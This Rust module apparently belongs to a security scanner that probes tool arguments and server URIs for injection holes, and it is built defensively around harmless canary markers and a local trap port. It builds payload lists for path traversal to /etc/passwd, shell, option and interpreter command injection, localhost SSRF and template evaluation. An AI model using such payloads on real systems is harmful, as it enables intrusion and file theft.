//! What is put into an argument.

use super::Traps;

/// What an argument is made to do.
#[derive(Clone, Copy, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub enum Family {
    /// Read or write a file out of bounds.
    Path,
    /// Run a command through a shell, an option or an interpreter.
    Command,
    /// Ask an address for it.
    Request,
    /// Evaluate an expression of a template.
    Template,
}

/// A value for an argument, and what it would cause.
#[derive(Clone, Debug)]
pub struct Payload {
    /// What it is made to do.
    pub family: Family,
    /// The value.
    pub text: String,
    /// The number of the marker file or of the path that is asked for; 0 where the answer shows it.
    pub number: usize,
}

const UP: &str = "../../../../../../../../../../../../";

/// What is put into one argument, whose harmless value is `plain`. Tools that may write (`writes`) are
/// pointed at nothing but our own folder. `is_address` asks for more spellings of our address.
pub fn payloads(traps: &Traps, plain: &str, writes: bool, is_address: bool) -> Vec<Payload> {
    let mut all = paths(traps, plain, writes);
    all.extend(commands(traps, plain));
    all.extend(requests(traps, is_address));
    all.push(Payload {
        family: Family::Template,
        text: traps.expression(),
        number: 0,
    });
    all
}

fn paths(traps: &Traps, plain: &str, writes: bool) -> Vec<Payload> {
    let mut texts = Vec::new();
    if !writes {
        texts.extend([
            format!("{UP}etc/passwd"),
            "/etc/passwd".to_owned(),
            "file:///etc/passwd".to_owned(),
            format!("{plain}/{UP}etc/passwd"),
            format!("{}etc/passwd", "....//".repeat(12)),
            format!("{}etc%2fpasswd", "..%2f".repeat(12)),
            format!("{}etc%2fpasswd", "%2e%2e%2f".repeat(12)),
            format!("{UP}etc/passwd\0.txt"),
        ]);
    }
    if let Some(folder) = traps.outside() {
        // without its ending, as a server may add one
        texts.push(format!("{UP}{}/canary", folder.trim_start_matches('/')));
        texts.push(format!("{folder}/canary"));
        if writes {
            texts.push(format!("{UP}{}/canary.txt", folder.trim_start_matches('/')));
            texts.push(format!("{folder}/canary.txt"));
        }
    }
    texts
        .into_iter()
        .map(|text| Payload {
            family: Family::Path,
            text,
            number: 0,
        })
        .collect()
}

fn commands(traps: &Traps, plain: &str) -> Vec<Payload> {
    let shapes: [fn(&str, &str) -> String; 14] = [
        |_, marker| format!("$(touch {marker})"),
        |_, marker| format!("`touch {marker}`"),
        |plain, marker| format!("{plain}; touch {marker} #"),
        |plain, marker| format!("{plain} | touch {marker}"),
        |plain, marker| format!("{plain} && touch {marker}"),
        |plain, marker| format!("{plain}\ntouch {marker}\n"),
        |plain, marker| format!("{plain}'; touch {marker}; '"),
        |plain, marker| format!("{plain}\"; touch {marker}; \""),
        |plain, marker| format!("{plain} & touch {marker} &"),
        |_, marker| format!("--output={marker}"),
        |_, marker| format!("--upload-pack=touch {marker}"),
        |_, marker| format!("__import__('os').system('touch {marker}')"),
        |_, marker| {
            format!("process.mainModule.require('child_process').execSync('touch {marker}')")
        },
        |_, marker| format!("system('touch {marker}')"),
    ];
    shapes
        .into_iter()
        .map(|shape| {
            let number = traps.next();
            Payload {
                family: Family::Command,
                text: shape(plain, &traps.marker(number)),
                number,
            }
        })
        .collect()
}

fn requests(traps: &Traps, is_address: bool) -> Vec<Payload> {
    let port = traps.port();
    let shapes = [
        format!("http://127.0.0.1:{port}"),
        format!("http://localhost:{port}"),
        format!("http://2130706433:{port}"),
        format!("http://0.0.0.0:{port}"),
        format!("http://[::ffff:127.0.0.1]:{port}"),
        format!("http://127.1:{port}"),
        format!("http://example.com@127.0.0.1:{port}"),
        format!("127.0.0.1:{port}"),
    ];
    let count = if is_address { shapes.len() } else { 1 };
    shapes
        .into_iter()
        .take(count)
        .map(|address| {
            let number = traps.next();
            Payload {
                family: Family::Request,
                text: format!("{address}{}", traps.path(number)),
                number,
            }
        })
        .collect()
}

/// URIs out of bounds, made of one that the server lists or of a template of its: each `{variable}` is
/// replaced.
pub fn uris(traps: &Traps, uri: &str) -> Vec<Payload> {
    let mut all = Vec::new();
    let push = |all: &mut Vec<Payload>, family, text, number| {
        all.push(Payload {
            family,
            text,
            number,
        });
    };
    if uri.contains('{') {
        for payload in payloads(traps, "x", false, true) {
            let text = filled(uri, &payload.text);
            push(&mut all, payload.family, text, payload.number);
            if payload.family == Family::Path {
                let encoded: String =
                    url::form_urlencoded::byte_serialize(payload.text.as_bytes()).collect();
                push(&mut all, Family::Path, filled(uri, &encoded), 0);
            }
        }
    } else {
        let folder = uri.rsplit_once('/').map_or(uri, |(folder, _)| folder);
        push(
            &mut all,
            Family::Path,
            format!("{folder}/{UP}etc/passwd"),
            0,
        );
        push(&mut all, Family::Path, format!("{uri}/{UP}etc/passwd"), 0);
        let encoded = "..%2f".repeat(12);
        push(
            &mut all,
            Family::Path,
            format!("{folder}/{encoded}etc%2fpasswd"),
            0,
        );
        push(&mut all, Family::Path, "file:///etc/passwd".to_owned(), 0);
        let number = traps.next();
        let address = format!("http://127.0.0.1:{}{}", traps.port(), traps.path(number));
        push(&mut all, Family::Request, address, number);
    }
    all
}

/// A template of a URI with every variable replaced.
fn filled(template: &str, value: &str) -> String {
    let mut out = String::new();
    let mut rest = template;
    while let Some((before, after)) = rest.split_once('{') {
        let Some((_, after)) = after.split_once('}') else {
            break;
        };
        out.push_str(before);
        out.push_str(value);
        rest = after;
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variables_of_every_kind_are_filled() {
        assert_eq!(filled("notes://{id}/{+path}{?q}", "x"), "notes://x/xx");
        assert_eq!(filled("notes://{id", "x"), "notes://{id");
    }

    #[tokio::test]
    async fn what_may_write_is_pointed_at_our_own_folder_alone() {
        let traps = Traps::set().await.unwrap();
        for payload in payloads(&traps, "x", true, true) {
            assert!(!payload.text.contains("passwd"), "{}", payload.text);
        }
    }
}
